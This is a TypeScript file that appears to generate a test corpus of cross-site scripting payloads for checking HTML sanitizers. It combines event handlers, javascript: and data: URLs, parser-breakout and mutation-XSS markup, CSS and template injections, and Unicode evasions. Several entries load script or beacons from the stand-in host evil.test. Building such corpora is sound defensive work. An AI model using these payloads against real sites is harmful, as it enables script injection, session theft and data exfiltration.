/*
 * Markup that tries to run a script, by combination: every way to write it in every place where it may stand. Each calls
 * `ran()`, or asks evil.test for something; a page on which neither happens is safe from it.
 */

const CODE = 'ran()'

const HANDLERS = [
  ['img', 'src=x', 'onerror'],
  ['img', 'src=x:x', 'onerror'],
  ['svg', '', 'onload'],
  ['body', '', 'onload'],
  ['body', '', 'onpageshow'],
  ['iframe', 'src=about:blank', 'onload'],
  ['input', 'autofocus', 'onfocus'],
  ['select', 'autofocus', 'onfocus'],
  ['textarea', 'autofocus', 'onfocus'],
  ['details', 'open', 'ontoggle'],
  ['marquee', '', 'onstart'],
  ['video', '', 'onloadstart'],
  ['audio', 'src=x', 'onerror'],
  ['object', 'data=x', 'onerror'],
  ['p', 'style="animation:x 1s"', 'onanimationstart'],
  ['a', 'href=https://a.test autofocus tabindex=1', 'onfocus'],
  ['span', 'class="underline" tabindex=1 autofocus', 'onfocus'],
  ['math', 'href=x', 'onclick'],
  ['style', '', 'onload'],
  ['xss', 'autofocus tabindex=1', 'onfocus'],
] as const

/** The same tag as browsers forgive it. */
const WRITINGS: readonly ((tag: string, attributes: string, handler: string) => string)[] = [
  (tag, attributes, handler) => `<${tag} ${attributes} ${handler}=${CODE}>`,
  (tag, attributes, handler) => `<${tag} ${attributes} ${handler}="${CODE}">`,
  (tag, attributes, handler) => `<${tag.toUpperCase()} ${attributes} ${handler.toUpperCase()}='${CODE}'>`,
  (tag, attributes, handler) => `<${tag}/${attributes.replaceAll(' ', '/')}/${handler}=${CODE}//`,
  (tag, attributes, handler) => `<${tag}\n${attributes}\t${handler}\n=\n${CODE}>`,
  (tag, attributes, handler) => `<${tag} ${attributes} ${handler}=&#114;&#x61;&#110;&lpar;&rpar;>`,
  (tag, attributes, handler) => `<<${tag} ${attributes} ${handler}=${CODE}>`,
  (tag, attributes, handler) => `<${tag}\u0000 ${attributes} ${handler}=${CODE}>`,
]

const URLS = [
  `javascript:${CODE}`,
  `JaVaScRiPt:${CODE}`,
  ` \u0001javascript:${CODE}`,
  `java\tscript:${CODE}`,
  `java\nscript:${CODE}`,
  `java&#10;script:${CODE}`,
  `java&Tab;script:${CODE}`,
  `javascript&colon;${CODE}`,
  `&#106;&#97;&#118;&#97;script:${CODE}`,
  `&#x6A;avascript&#0000058${CODE}`,
  `javascript://https://a.test/%0a${CODE}`,
  `javascript:https://a.test;${CODE}`,
  `data:text/html,<script>parent.${CODE}</script>`,
  `data:text/html;base64,PHNjcmlwdD5wYXJlbnQucmFuKCk8L3NjcmlwdD4=`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${CODE}'/>`,
  `vbscript:${CODE}`,
  `blob:https://a.test/x`,
  `//evil.test/x`,
] as const

const LINKS: readonly ((url: string) => string)[] = [
  (url) => `<a href="${url}">a link</a>`,
  (url) => `<a href='https://a.test' href="${url}" xlink:href="${url}">twice</a>`,
  (url) => `<iframe src="${url}"></iframe>`,
  (url) => `<form action="${url}"><button formaction="${url}">send</button></form>`,
  (url) => `<svg><a xlink:href="${url}"><text y=20>svg</text></a></svg>`,
  (url) => `<object data="${url}"></object><embed src="${url}">`,
  (url) => `<meta http-equiv=refresh content="0;url=${url}">`,
]

const SCRIPT_TAGS = [
  `<script>${CODE}</script>`,
  `<SCRIPT>${CODE}</SCRIPT >`,
  `<script\n>${CODE}</script\t>`,
  `<script src=//evil.test/x.js></script>`,
  `<script type=module>${CODE}</script>`,
  `<script>${CODE}`,
  `<scr<script>ipt>${CODE}</scr</script>ipt>`,
  `<<script>${CODE}//<</script>`,
  `<script/x>${CODE}</script>`,
  `<svg><script>ran&#40;&#41;</script></svg>`,
  `<svg><script href="data:,${CODE}"/></svg>`,
  `<noscript><script>${CODE}</script></noscript>`,
]

/** Out of the place where a page might put the text. */
const BREAKOUTS = [
  '"',
  "'",
  '">',
  "'>",
  '-->',
  '--!>',
  ']]>',
  '</title>',
  '</textarea>',
  '</style>',
  '</script>',
  '</noscript>',
  '</template>',
  '</iframe>',
  '</svg>',
  '</p></div>',
  '\\";',
  "\\';",
].flatMap((out) => [
  `${out}<img src=x onerror=${CODE}>`,
  `${out}<script>${CODE}</script>`,
  `${out} autofocus onfocus=${CODE} x=${out[0] === "'" ? "'" : '"'}`,
])

/** Markup that a second parse reads otherwise than the first. */
const MUTATING = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${CODE}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${CODE}>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${CODE}>">`,
  `<math></p><style><!--</style><img src/onerror=${CODE}>--></style>`,
  `<noscript><p title="</noscript><img src=x onerror=${CODE}>">`,
  `<svg><foreignObject><p><style><img src=x onerror=${CODE}></style>`,
  `<svg><desc><template><img src=x onerror=${CODE}></template></desc></svg>`,
  `<table><td><svg><style><a title="</style><img src onerror=${CODE}>">`,
  `<select><template><style><!--</style><a rel="--></style></template></select><img src onerror=${CODE}>">`,
  `<!--><img src=x onerror=${CODE}>-->`,
  `<!-- --!><img src=x onerror=${CODE}>`,
  `<?xml ><img src=x onerror=${CODE}>?>`,
  `<![CDATA[<img src=x onerror=${CODE}>]]>`,
  `<xmp><img src=x onerror=${CODE}></xmp>`,
  `<plaintext><img src=x onerror=${CODE}>`,
  `<listing>&lt;img src=x onerror=${CODE}&gt;</listing>`,
  `<title><img src=x onerror=${CODE}></title>`,
  `<a href="https://a.test/#&quot;><img src=x onerror=${CODE}>">x</a>`,
  `<p>&lt;img src=x onerror=${CODE}&gt;</p>`,
  `&amp;lt;img src=x onerror=${CODE}&amp;gt;`,
]

const STYLES = [
  `<style>@import "//evil.test/x.css";</style>`,
  `<style>*{background:url(//evil.test/x)}</style>`,
  `<link rel=stylesheet href=//evil.test/x.css>`,
  `<p style="background:url(//evil.test/x)">styled</p>`,
  `<p style="width:expression(${CODE})">styled</p>`,
  `<p style="-moz-binding:url(//evil.test/x#y)">styled</p>`,
  `<p style="background:url(javascript:${CODE})">styled</p>`,
  `<span style="text-decoration: underline; background:url(//evil.test/x)">styled</span>`,
  `<div style=position:fixed;inset:0;z-index:9999>cover</div>`,
]

const REQUESTS = [
  `<img src=//evil.test/x>`,
  `<img srcset="//evil.test/x 2x">`,
  `<img src='//evil.test/?`,
  `<base href=//evil.test/>`,
  `<link rel=prefetch href=//evil.test/x>`,
  `<video poster=//evil.test/x></video>`,
  `<iframe srcdoc="<script>parent.${CODE}</script>"></iframe>`,
  `<a href="https://a.test" ping="//evil.test/x">ping</a>`,
  `<object type="text/html" data="//evil.test/x"></object>`,
]

/** What template engines and other readers of text would run. */
const TEMPLATES = [
  `{{constructor.constructor('${CODE}')()}}`,
  `\${${CODE}}`,
  `#{${CODE}}`,
  `<%= ${CODE} %>`,
  `{%raw%}${CODE}{%endraw%}`,
  `[a link](javascript:${CODE})`,
  `![x](//evil.test/x)`,
  `\\u003cscript\\u003e${CODE}\\u003c/script\\u003e`,
  `{"@type":"</script><script>${CODE}</script>"}`,
]

const CHARACTERS = [
  `＜script＞${CODE}＜/script＞`,
  `\ufeff<script>${CODE}</script>`,
  `<\u200bscript>${CODE}</script>`,
  `\u2028<script>${CODE}</script>`,
  `\u202e>tpircs<${CODE}`,
  `<img src=x onerror\u00a0=${CODE}>`,
  `<ſcript>${CODE}</ſcript>`,
  `\u0000<\u0000script>${CODE}</script>`,
  `%3Cscript%3E${CODE}%3C/script%3E`,
  `+ADw-script+AD4-${CODE}+ADw-/script+AD4-`,
]

export const XSS_PAYLOADS: readonly string[] = [
  ...new Set([
    ...SCRIPT_TAGS,
    ...HANDLERS.flatMap(([tag, attributes, handler]) => WRITINGS.map((write) => write(tag, attributes, handler))),
    ...URLS.flatMap((url) => LINKS.map((link) => link(url))),
    ...BREAKOUTS,
    ...MUTATING,
    ...STYLES,
    ...REQUESTS,
    ...TEMPLATES,
    ...CHARACTERS,
  ]),
]
